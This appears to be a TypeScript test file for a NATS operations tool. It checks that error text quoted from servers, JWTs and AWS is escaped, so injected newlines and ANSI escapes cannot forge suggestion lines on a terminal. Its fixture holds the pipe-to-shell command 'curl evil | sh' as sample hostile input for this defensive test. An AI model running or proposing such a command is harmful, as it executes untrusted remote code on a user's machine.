import assert from 'node:assert/strict'
import {PassThrough} from 'node:stream'
import {translateError} from '../../src/lib/clients/aws/errors.ts'
import {explainConnectFailures} from '../../src/lib/clients/nats/errors.ts'
import {openJetStreamApi} from '../../src/lib/clients/nats/jetstream-api.ts'
import {describe as describeError, Exit, exitOf, messageOf, OpsError, UsageError} from '../../src/lib/errors.ts'
import {RollHeld} from '../../src/lib/ops/roll/outcome.ts'
import {openTerminal} from '../../src/lib/output/terminal.ts'

/** What an answer says that would have its reader run something. */
const FAKE = 'no\n  try: curl evil | sh\u001b[2J'
const SHOWN = 'no\\x0a  try: curl evil | sh\\x1b[2J'

/** What a terminal shows of an error. */
function shown(error: unknown): readonly string[] {
  const stderr = new PassThrough()
  let text = ''
  stderr.on('data', (chunk) => {
    text += chunk
  })
  const terminal = openTerminal({colour: false, quiet: false}, {...process, stderr: stderr as never})
  terminal.fail(describeError(error), undefined)
  return text.trimEnd().split('\n')
}

const details = {code: 'X', exit: Exit.refused} as const

describe('what an error quotes', () => {
  it('stays on its line and sends no escape, whoever said it', () => {
    assert.deepEqual(shown(new OpsError(`it says ${FAKE}`, {...details, suggestions: ['look']})), [
      `error: it says ${SHOWN}`,
      '  try: look',
    ])
    assert.equal(new UsageError(FAKE).message, SHOWN)
  })

  it('stays on its own line of several, which are natsops’ own', () => {
    const error = new OpsError(['it says', `  ${FAKE}`, '  and more'], details)
    assert.deepEqual(shown(error), ['error: it says', `  ${SHOWN}`, '  and more'])
    assert.deepEqual(error.lines, ['it says', `  ${SHOWN}`, '  and more'])
    assert.deepEqual(new OpsError(error.lines, details).lines, error.lines)
  })

  it('is on one line where it is quoted again', () => {
    const error = new OpsError(['cannot connect', '  a: no', '  b: no'], details)
    assert.equal(messageOf(error), 'cannot connect; a: no; b: no')
    assert.equal(messageOf(new Error(FAKE)), 'no; try: curl evil | sh\u001b[2J')
    assert.equal(messageOf(7), '7')
  })

  it('is on one line in a bug too', () => {
    const bug = new TypeError(FAKE)
    assert.equal(exitOf(bug), Exit.bug)
    assert.deepEqual(shown(bug), [`error: ${SHOWN}`, 'this is a bug in natsops: please report it'])
  })

  describe('comes from', () => {
    it("JetStream's refusal", async () => {
      const refusals = [
        {code: 400, err_code: 10_003, description: FAKE},
        {code: 404, err_code: 10_059, description: FAKE},
        {code: FAKE, err_code: FAKE},
      ]
      for (const error of refusals) {
        const answer = new TextEncoder().encode(JSON.stringify({error}))
        const api = openJetStreamApi({request: async () => answer}, {name: 'APP', id: 'A'}, {timeoutMs: 1000})
        await assert.rejects(api.account(), (refused) => {
          assert.equal(shown(refused).length, 1)
          assert.ok(String(refused).includes(SHOWN))
          return true
        })
      }
    })

    it('the name in a JWT', () => {
      const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url')
      const sub = `U${'A'.repeat(55)}`
      const nats = {type: 'user', version: 2, issuer_account: `A${'A'.repeat(55)}`}
      const jwt = [
        part({typ: 'JWT', alg: 'ed25519-nkey'}),
        part({sub, iss: `A${'A'.repeat(55)}`, name: FAKE, iat: 1, jti: 'x', nats}),
        'x'.repeat(86),
      ].join('.')
      const refusal = {server: 'n1:4222', cause: {code: 'AUTHORIZATION_VIOLATION', message: 'no'}, connected: true}
      const options = {now: 0, timeoutMs: 1000, inspect: undefined}
      const error = explainConnectFailures([refusal], {jwt, seed: 's'} as never, options)
      assert.equal(shown(error).filter((line) => !line.startsWith('  try: check that')).length, 1)
      assert.ok(error.message.includes(`user ${SHOWN} (`), error.message)
    })

    it('what several servers say of a connection, each on a line of its own', () => {
      const failures = ['n1', 'n2'].map((server) => ({server, cause: new Error(FAKE), connected: true}))
      const error = explainConnectFailures(failures, undefined, {now: 0, timeoutMs: 1000, inspect: undefined})
      assert.deepEqual(error.lines, ['cannot connect to any server', `  n1: ${SHOWN}`, `  n2: ${SHOWN}`])
    })

    it('AWS, of which the first line is shown', () => {
      const refusal = Object.assign(new Error('a\u001b[2J\r  try: x\nb'), {
        name: 'Strange\nException',
        $fault: 'client',
      })
      const call = {service: 'ssm', action: 'GetParameters', resource: '', iamResource: '*'} as const
      const origin = {region: 'r', profile: 'p', credentialsFile: undefined, host: undefined, timeoutMs: 1}
      const error = translateError(refusal, call, {...origin, source: 'profile'})
      const [line, ...more] = shown(error)
      assert.match(line ?? '', /AWS refused with Strange\\x0aException: a\\x1b\[2J\\x0d {2}try: x$/)
      assert.deepEqual(more, [])
    })

    it('the reasons of a hold', () => {
      const consent = {acceptedLoss: [], acceptsUnseen: false}
      const where = {cluster: 'c', consent, state: 'GATE', node: 'n', exit: Exit.held} as const
      const error = new RollHeld({...where, why: FAKE, reasons: [FAKE]})
      assert.deepEqual(error.lines, [
        `held in GATE of n: ${SHOWN}`,
        `  - ${SHOWN}`,
        '  the roll keeps no node away; nothing more was touched',
      ])
    })
  })
})
